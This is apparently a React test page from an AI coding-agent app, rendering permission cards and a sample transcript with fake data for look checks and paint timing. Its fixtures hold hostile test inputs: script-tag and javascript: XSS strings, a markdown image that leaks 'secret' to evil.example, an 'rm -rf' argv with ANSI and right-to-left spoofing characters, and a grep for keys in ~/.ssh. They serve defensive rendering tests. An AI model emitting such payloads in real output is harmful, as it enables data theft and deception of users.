/**
 * A page that renders every card kind and a transcript with realistic data, for checking
 * the look in Chromium (test/look/look-cards.ts) and timing "card event → card painted".
 * Not a unit test: vitest never loads it.
 */
import { useState } from 'react';
import { createRoot } from 'react-dom/client';
import type { CardEvent, CardOutcome, TranscriptItem } from '../../../../shared/reducer';
import { ApiProvider } from '../../../../renderer/src/api/api-context';
import { markCardEvent } from '../../../../renderer/src/store/card-paint';
import { PermissionCard } from '../../../../renderer/src/components/cards/PermissionCard';
import { QuestionCard } from '../../../../renderer/src/components/cards/QuestionCard';
import { Transcript } from '../../../../renderer/src/components/transcript/Transcript';
import '../../../../renderer/src/styles/theme.css';
import '../../../../renderer/src/styles/boxes.css';
import {
  bigDiff,
  cardOf,
  commandBody,
  questionOf,
  readBody,
  SESSION,
  WORKSPACE,
  writeBody,
} from '../components/cards/card-fixtures';
import { createFakeApi } from '../fake-api';

const fake = createFakeApi();
fake.reply('session.changes', {
  files: [
    {
      path: 'src/app.ts',
      change: 'modified',
      bytes: 1126,
      diff: '--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1,2 +1,2 @@\n-const limit = 10;\n+const limit = 20;\n run(limit);\n',
      diffTruncated: false,
    },
  ],
  undo: { ok: true },
});
fake.reply('card.proposal', {
  path: `${WORKSPACE}/src/big.ts`,
  text: Array.from({ length: 3000 }, (_, i) => `export const value${i} = ${i * 2};`).join('\n'),
  bytes: 98_000,
});

const OPEN: CardOutcome = { state: 'open' };

const write = cardOf(writeBody());
const reasked = cardOf(
  writeBody({
    diff: '--- a/src/config.json\n+++ b/src/config.json\n@@ -1,3 +1,3 @@\n {\n-  "port": 8080\n+  "port": 9090 <script>alert(1)</script>\n }\n\\ No newline at end of file\n',
    path: `${WORKSPACE}/src/config.json`,
    diffNote: 'Line endings change from CRLF to LF: lines that look unchanged differ in their line ending.',
  }),
  { reasked: { previousCardId: 'card-1', reason: 'the file on disk changed (its SHA-256 differs)' } },
);
const created = cardOf(
  writeBody({
    creates: true,
    beforeBytes: null,
    inside: false,
    path: '/home/me/.config/tool/settings.toml',
    proposalBytes: 88,
    diff: '--- /dev/null\n+++ b/settings.toml\n@@ -0,0 +1,3 @@\n+[core]\n+editor = "vim"\n+pager = "less -R"\n',
  }),
);
const truncated = cardOf(
  writeBody({
    path: `${WORKSPACE}/src/big.ts`,
    diff: bigDiff(7, 340),
    diffTruncated: true,
    diffBytes: 1_183_220,
    beforeBytes: 1_048_000,
    proposalBytes: 1_050_120,
  }),
);
const command = cardOf(
  commandBody(
    [
      ' rm',
      '-rf',
      'build dir',
      'a\tb',
      'line\nbreak',
      '\u001b[31mred',
      'file\u202Etxt.exe',
      'ad\u200Bmin',
      '"quoted"',
      '',
    ],
    {
      cwd: `${WORKSPACE}/packages/web`,
      timeoutS: 900,
    },
  ),
);
const commandAgain = cardOf(command.body, {
  reasked: { previousCardId: command.cardId, reason: 'the folder was replaced' },
});
const read = cardOf(readBody({ tool: 'grep', path: '/home/me/.ssh' }));
const question = questionOf('Which database should the integration tests run against?', [
  'SQLite (in memory)',
  'Postgres in Docker',
]);

const transcript: TranscriptItem[] = [
  { kind: 'user', seq: 1, messageId: 'm1', text: 'The tests in src/api fail since yesterday. Please fix them.' },
  {
    kind: 'assistant',
    seq: 2,
    turnId: 't1',
    text: 'I will look at **src/api/server.ts** first. See [the docs](https://example.com/docs), not [this](javascript:alert(1)).\n\n![tracking pixel](https://evil.example/p.png?d=secret)\n\n```ts\nexport function limit(n: number): number {\n  return Math.min(n, 20); // "cap"\n}\n```\n\n| file | status |\n|---|---|\n| a.ts | ok |',
  },
  {
    kind: 'tool',
    seq: 3,
    turnId: 't1',
    toolCallId: 'c1',
    tool: 'read_file',
    args: { path: 'src/api/server.ts' },
    result: { ok: true, output: 'export const server = 1;\n' },
  },
  {
    kind: 'tool',
    seq: 4,
    turnId: 't1',
    toolCallId: 'c2',
    tool: 'grep',
    args: { pattern: 'limit', path: 'src' },
    result: { ok: false, output: 'rg: src/missing: No such file or directory' },
  },
  // One call, one row: the write's card, answered, and what the write changed.
  {
    kind: 'tool',
    seq: 5,
    turnId: 't1',
    toolCallId: 'c5',
    tool: 'write_file',
    args: { path: 'src/app.ts' },
    cards: [{ card: write, outcome: { state: 'answered', answer: 'allow_once' } }],
    changed: [{ path: 'src/app.ts', change: 'modified', bytes: 1126 }],
    result: { ok: true, output: 'wrote src/app.ts' },
  },
  // Asked twice (the folder was replaced), allowed the second time, and what the command changed.
  {
    kind: 'tool',
    seq: 6,
    turnId: 't1',
    toolCallId: 'c6',
    tool: 'run',
    args: { argv: command.body.kind === 'command' ? command.body.argv : [] },
    cards: [
      { card: command, outcome: { state: 'stale', answer: 'allow_once', reason: 'the folder was replaced' } },
      { card: commandAgain, outcome: { state: 'answered', answer: 'allow_session' } },
    ],
    changed: [
      { path: 'build/out.js', change: 'added', bytes: 2048 },
      { path: 'build dir/old.log', change: 'deleted', bytes: 300 },
      { path: 'src/app.ts', change: 'modified', bytes: 1130 },
    ],
    result: { ok: true, output: 'done' },
  },
  {
    kind: 'tool',
    seq: 7,
    turnId: 't1',
    toolCallId: 'c7',
    tool: 'grep',
    args: { pattern: 'key', path: '/home/me/.ssh' },
    cards: [{ card: read, outcome: { state: 'withdrawn', reason: 'the turn ended (cancelled)' } }],
  },
  { kind: 'hook', seq: 8, argv: ['npm', 'run', 'lint'], ok: false, exitCode: 1, output: 'src/a.ts: 3 problems' },
  {
    kind: 'changes',
    seq: 80,
    turnId: 't1',
    toolCallId: 'hook-1',
    changed: [{ path: 'src/app.ts', change: 'modified', bytes: 1120 }],
  },
  { kind: 'result', seq: 9, turnId: 't1', summary: 'Fixed the **limit** test; `npm test` passes.' },
  { kind: 'turn_end', seq: 10, turnId: 't1', reason: 'finished' },
  {
    kind: 'undo',
    seq: 90,
    event: {
      type: 'undo',
      seq: 90,
      ts: '2026-12-03T04:00:00.000Z',
      turnId: 't1',
      before: 'a',
      after: 'b',
      restored: [
        { path: 'src/app.ts', change: 'modified', bytes: 1024 },
        { path: 'build/out.js', change: 'deleted', bytes: 2048 },
      ],
      kept: [{ path: 'build dir/old.log', why: 'changed_since' }],
    },
  },
  { kind: 'error', seq: 11, message: 'The model server answered 429: rate limited. Try again in a minute.' },
  { kind: 'user', seq: 12, messageId: 'm2', text: 'Now run the tests again.' },
  {
    kind: 'tool',
    seq: 13,
    turnId: 't2',
    toolCallId: 'c3',
    tool: 'run',
    args: { argv: ['npm', 'test', '--', '--reporter=dot'] },
  },
  {
    kind: 'tool',
    seq: 14,
    turnId: 't2',
    toolCallId: 'c4',
    tool: 'write_file',
    args: { path: 'src/config.json' },
    cards: [{ card: reasked, outcome: OPEN }],
  },
];

const liveText = Array.from({ length: 40 }, (_, i) => `✓ test ${i + 1} passed`).join('\n');

function Cards() {
  return (
    <div style={{ display: 'flex', flexDirection: 'column', gap: 16, padding: 16, maxWidth: 1100 }}>
      {[write, reasked, created, truncated, command, read].map((card) => (
        <PermissionCard key={card.cardId} sessionId={SESSION} workspace={WORKSPACE} card={card} outcome={OPEN} pinned />
      ))}
      <QuestionCard sessionId={SESSION} question={question} />
    </div>
  );
}

function TranscriptPage() {
  return (
    <div style={{ height: '100vh', display: 'flex', flexDirection: 'column', maxWidth: 1000 }}>
      <div style={{ flex: 1, minHeight: 0 }}>
        <Transcript
          sessionId={SESSION}
          workspace={WORKSPACE}
          items={transcript}
          streaming="Running the tests now; the **first** results"
          liveOutput={{ c3: { text: liveText, droppedChars: 0 } }}
        />
      </div>
      <div style={{ padding: 12 }}>
        <PermissionCard sessionId={SESSION} workspace={WORKSPACE} card={reasked} outcome={OPEN} pinned />
      </div>
    </div>
  );
}

/** 10,000 items, and a hook to append more, for scrolling and following the bottom. */
function LongTranscript() {
  const [items, setItems] = useState<TranscriptItem[]>(() => Array.from({ length: 10_000 }, (_, i) => longItem(i + 1)));
  (window as unknown as { append: () => void }).append = () => setItems((prev) => [...prev, longItem(prev.length + 1)]);
  return (
    <div style={{ height: '100vh' }}>
      <Transcript sessionId={SESSION} workspace={WORKSPACE} items={items} streaming={null} liveOutput={{}} />
    </div>
  );
}

function longItem(seq: number): TranscriptItem {
  if (seq % 3 === 0) {
    return {
      kind: 'tool',
      seq,
      turnId: 't',
      toolCallId: `c${seq}`,
      tool: 'read_file',
      args: { path: `src/f${seq}.ts` },
      result: { ok: true, output: 'x\n'.repeat(seq % 40) },
    };
  }
  if (seq % 3 === 1) return { kind: 'user', seq, messageId: `m${seq}`, text: `Message ${seq}` };
  return {
    kind: 'assistant',
    seq,
    turnId: 't',
    text: `Reply **${seq}**\n\n- one\n- two\n\n${'words '.repeat(seq % 60)}`,
  };
}

/** The bench: mounts a card on demand, marking the event first, like the store would. */
function Bench() {
  const [card, setCard] = useState<CardEvent | null>(null);
  (window as unknown as { showCard: (lines: number, truncated: boolean) => string }).showCard = (
    total,
    isTruncated,
  ) => {
    // About 64 KiB for 1,078 lines: the size DESIGN.md measured diff2html's HTML at.
    const diff = bigDiff(7, total, 'as long as real code');
    const next = cardOf(
      writeBody({
        path: `${WORKSPACE}/src/bench-${total}.ts`,
        diff,
        diffTruncated: isTruncated,
        diffBytes: isTruncated ? 1_100_000 : diff.length,
      }),
    );
    console.log(`bench diff: ${diff.length} bytes, ${diff.split('\n').length} lines`);
    markCardEvent(next.cardId);
    setCard(next);
    return next.cardId;
  };
  return card ? <PermissionCard sessionId={SESSION} workspace={WORKSPACE} card={card} outcome={OPEN} pinned /> : null;
}

const view = new URLSearchParams(location.search).get('view');
document.body.style.margin = '0';
document.body.style.background = 'var(--bg)';
createRoot(document.getElementById('root') as HTMLElement).render(
  <ApiProvider api={fake.api}>
    {view === 'transcript' ? (
      <TranscriptPage />
    ) : view === 'bench' ? (
      <Bench />
    ) : view === 'long' ? (
      <LongTranscript />
    ) : (
      <Cards />
    )}
  </ApiProvider>,
);
